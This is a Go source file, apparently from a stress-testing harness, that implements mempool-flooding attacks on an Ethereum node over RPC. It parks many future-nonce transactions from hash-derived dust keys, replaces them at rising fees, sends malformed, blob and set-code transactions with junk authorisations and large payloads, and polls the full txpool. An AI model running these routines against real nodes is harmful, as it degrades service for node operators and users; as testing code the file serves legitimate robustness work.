// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"context"
	"crypto/ecdsa"
	"encoding/binary"
	"encoding/json"
	"math/big"
	"strings"

	"github.com/ethereum/go-ethereum/common"
	"github.com/ethereum/go-ethereum/common/hexutil"
	"github.com/ethereum/go-ethereum/core/types"
	"github.com/ethereum/go-ethereum/crypto"
	"github.com/holiman/uint256"
)

const (
	dustAccounts = 70
	mostAhead    = 64 // nonces that a node parks ahead of the next one
	raises       = 30 // times that a price can be raised by an eighth before the money ends
)

var chainID = big.NewInt(1_337_062)

// Dust are the accounts whose little money the attacks that park transactions need: DustMoney wei each, which is what
// one transfer costs at a high price.
func Dust() []*ecdsa.PrivateKey {
	keys := make([]*ecdsa.PrivateKey, dustAccounts)
	for i := range keys {
		keys[i], _ = crypto.ToECDSA(crypto.Keccak256([]byte("adit dust"), []byte{byte(i)})) // a hash is a key, but for one in 2^128
	}
	return keys
}

// DustMoney is what each of the Dust accounts is given.
var DustMoney = new(big.Int).Mul(big.NewInt(21_000*400), big.NewInt(1_000_000_000))

// parkDust parks as many transactions behind a missing nonce as the client's part of the dust accounts can, again and
// again. Each round has other bytes under the same nonces.
func parkDust(ctx context.Context, c *client) error {
	price, err := c.price(ctx)
	if err != nil {
		return err
	}
	for i, key := range Dust() {
		if i%4 != c.number%4 {
			continue
		}
		var calls []string
		for nonce := uint64(1); nonce <= mostAhead; nonce++ {
			calls = append(calls, send(key, &types.DynamicFeeTx{Nonce: nonce, GasFeeCap: price, GasTipCap: price, Gas: 21_000, To: &common.Address{9}, Value: c.next()}))
		}
		if err := c.batch(ctx, calls); err != nil {
			return err
		}
	}
	return nil
}

// raise replaces parked transactions by dearer ones, for which nobody ever pays.
func raise(ctx context.Context, c *client) error {
	price, err := c.price(ctx)
	if err != nil {
		return err
	}
	key := Dust()[c.number%dustAccounts]
	for range raises {
		var calls []string
		for nonce := uint64(1); nonce <= mostAhead; nonce++ {
			calls = append(calls, send(key, &types.DynamicFeeTx{Nonce: nonce, GasFeeCap: price, GasTipCap: price, Gas: 21_000, To: &common.Address{9}}))
		}
		if err := c.batch(ctx, calls); err != nil {
			return err
		}
		price = new(big.Int).Div(new(big.Int).Mul(price, big.NewInt(9)), big.NewInt(8))
	}
	return nil
}

// sendOdd sends what is refused late: signatures of nobody, blobs, lists of authorisations, much data, and all of it
// without money.
func sendOdd(ctx context.Context, c *client) error { return c.again(ctx, 20, c.odd) }

func (c *client) odd() string {
	key, err := crypto.GenerateKey()
	if err != nil {
		return ""
	}
	price := big.NewInt(100_000_000_000)
	noise := make([]byte, 90_000)
	for i := 0; i < len(noise); i += 8 {
		binary.BigEndian.PutUint64(noise[i:], c.next().Uint64()*0x9e3779b97f4a7c15)
	}
	var authorisations []types.SetCodeAuthorization
	for n := range uint64(300) {
		authorisations = append(authorisations, types.SetCodeAuthorization{ChainID: *uint256.MustFromBig(chainID), Nonce: n, R: *uint256.NewInt(1 + n), S: *uint256.NewInt(1)})
	}
	dear := uint256.MustFromBig(price)
	var calls []string
	for nonce := range uint64(8) {
		calls = append(calls,
			unsigned(&types.DynamicFeeTx{ChainID: chainID, Nonce: nonce, GasFeeCap: price, GasTipCap: price, Gas: 21_000, To: &common.Address{9}, V: common.Big1, R: common.Big1, S: new(big.Int).SetUint64(1 + nonce)}),
			send(key, &types.BlobTx{ChainID: uint256.MustFromBig(chainID), Nonce: nonce, GasFeeCap: dear, GasTipCap: dear, Gas: 21_000, BlobFeeCap: dear, BlobHashes: []common.Hash{{1}}}),
			send(key, &types.SetCodeTx{ChainID: uint256.MustFromBig(chainID), Nonce: nonce, GasFeeCap: dear, GasTipCap: dear, Gas: 10_000_000, AuthList: authorisations}),
			send(key, &types.DynamicFeeTx{ChainID: chainID, Nonce: nonce, GasFeeCap: price, GasTipCap: price, Gas: 10_000_000, To: &common.Address{9}, Data: noise}),
		)
	}
	return batchOf(calls)
}

// sendPoorSync is sendPoor by the method that also waits for the receipt.
func sendPoorSync(ctx context.Context, c *client) error {
	return c.again(ctx, 20, func() string {
		return strings.ReplaceAll(poor(100_000_000_000), "eth_sendRawTransaction", "eth_sendRawTransactionSync")
	})
}

// readPool asks for all that waits, while others have filled it.
func readPool(ctx context.Context, c *client) error {
	if c.number%8 < 4 {
		return c.post(ctx, call("txpool_content", ""))
	}
	return c.post(ctx, call("txpool_inspect", ""))
}

// crowdedPool parks long transactions of the dust accounts, and asks for all that waits.
func crowdedPool(ctx context.Context, c *client) error {
	if c.number >= 2 {
		return readPool(ctx, c)
	}
	price, err := c.price(ctx)
	if err != nil {
		return err
	}
	price = new(big.Int).Mul(price, big.NewInt(2))
	for i, key := range Dust() {
		if i%2 != c.number {
			continue
		}
		var calls []string
		for nonce := uint64(1); nonce <= mostAhead; nonce++ {
			calls = append(calls, send(key, &types.DynamicFeeTx{Nonce: nonce, GasFeeCap: price, GasTipCap: price, Gas: 60_000, To: &common.Address{9}, Data: make([]byte, 3_000)}))
		}
		if err := c.batch(ctx, calls); err != nil {
			return err
		}
	}
	return nil
}

// send is the text of a call that sends a transaction of key.
func send(key *ecdsa.PrivateKey, tx types.TxData) string {
	signed, err := types.SignNewTx(key, types.LatestSignerForChainID(chainID), tx)
	if err != nil {
		return ""
	}
	return sending(signed)
}

// unsigned is send with the signature that tx has.
func unsigned(tx types.TxData) string { return sending(types.NewTx(tx)) }

func sending(tx *types.Transaction) string {
	raw, err := tx.MarshalBinary()
	if err != nil {
		return ""
	}
	return call("eth_sendRawTransaction", `"`+hexutil.Encode(raw)+`"`)
}

// price is what the node tells wallets to offer.
func (c *client) price(ctx context.Context) (*big.Int, error) {
	raw, err := c.ask(ctx, call("eth_gasPrice", ""))
	if err != nil {
		return nil, err
	}
	var answer struct{ Result *hexutil.Big }
	if err := json.Unmarshal(raw, &answer); err != nil || answer.Result == nil {
		return nil, errAnswer
	}
	return new(big.Int).Mul(answer.Result.ToInt(), common.Big2), nil
}
